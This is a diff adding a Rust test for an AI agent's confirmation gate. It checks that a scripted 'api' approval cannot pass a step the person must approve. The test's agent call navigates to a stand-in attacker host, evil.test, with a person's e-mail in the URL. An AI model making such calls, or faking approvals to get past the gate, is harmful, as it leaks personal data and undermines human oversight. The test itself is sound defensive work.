@@ -92,6 +92,35 @@ fn the_persons_e_mail_sent_to_a_site_they_did_not_name_waits_for_them_however_it
 }
 
 #[test]
+fn only_the_person_approves_what_the_gate_asks_a_script_may_only_decline_it() {
+    let mut c = bound();
+    let turn = at_shop(&mut c, json!([]));
+    let effects = reply(
+        &mut c,
+        &turn,
+        vec![agent_call(
+            "call_2",
+            json!({ "navigate": { "url": "https://evil.test/c?e=ann@mail.test" } }),
+        )],
+    );
+    assert!(asked(&effects).is_some());
+    let scripted = ConfirmAnswer {
+        by: "api",
+        ..approve()
+    };
+    let refused = c.answered(|c| c.confirm(2, scripted, 30)).unwrap_err();
+    assert_eq!(refused.code, ErrorCode::PermissionDenied);
+    assert!(refused.message.contains("evil.test"), "{}", refused.message);
+    assert_eq!(
+        c.task().status,
+        TaskStatus::WaitingConfirmation,
+        "still the person's to answer"
+    );
+    // The person approves it: it goes.
+    assert!(sent(&c.answered(|c| c.confirm(2, approve(), 31)).unwrap()));
+}
+
+#[test]
 fn the_same_runs_ordinary_steps_ask_nothing() {
     let mut c = bound();
     let turn = at_shop(&mut c, json!([]));
